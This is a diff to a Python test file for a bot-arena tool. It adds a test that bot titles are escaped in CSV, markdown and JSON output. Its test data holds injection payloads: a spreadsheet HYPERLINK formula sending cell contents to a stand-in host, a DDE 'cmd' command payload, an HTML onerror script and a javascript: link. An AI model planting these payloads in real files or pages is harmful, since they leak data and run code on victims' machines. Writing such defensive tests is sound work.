@@ -49,6 +49,37 @@ def test_only_tables_for_people_cut_a_bots_title_and_unknown_facts_are_left_out(
     assert "None" not in arena.run("db", "info")[0]  # no database yet: it has no size
 
 
+@pytest.mark.parametrize(
+    "title, cell, in_markdown",
+    [
+        ('=HYPERLINK("http://x.example/?"&A1)', '\'=HYPERLINK("http://x.example/?"&A1)', "=HYPERLINK("),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0", r"-2+3+cmd\|' /C"),
+        ("@SUM(1)", "'@SUM(1)", "@SUM(1)"),
+        ("<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>", r"\<img src"),
+        ("[go](javascript:x)", "[go](javascript:x)", r"\[go](javascript"),
+        (r"a \| b", r"a \| b", r"a \\\| b"),
+    ],
+)
+def test_no_text_of_a_stranger_is_a_formula_html_or_a_link(
+    arena: Arena, title: str, cell: str, in_markdown: str
+) -> None:
+    (arena.folder / "sly.py").write_text(
+        f"{title!r}\nGAMES = ['flip7']\n\n\ndef act(view):\n    return view.legal[0]\n"
+    )
+    arena.run(
+        "bot", "submit", "sly.py", "--owner", "ada", "--note", f"{title}\x9b\u202e", "--level", "trusted"
+    )
+    (row,) = (one for one in csv_of(arena, "bot", "list") if one["bot"].startswith("sly"))
+    assert row["title"] == cell
+    assert in_markdown in arena.run("bot", "list", "--format", "markdown")[0]
+    assert not {"\x9b", "\u202e"} & set(arena.run("bot", "show", "sly", "--format", "json")[0])
+
+
+def csv_of(arena: Arena, *words: str) -> list[dict[str, str]]:
+    """The rows of a table that a command prints."""
+    return list(csv.DictReader(io.StringIO(arena.run(*words, "--format", "csv")[0])))
+
+
 def test_traces_come_from_any_bots_and_replay(arena: Arena) -> None:
     arena.write("high", "def act(view):\n    return view.texts[-1]\n")
     words = ["trace", "flip7", "--players", "3", "--games", "3", "--seed", "9", "--option", "targeting=any"]
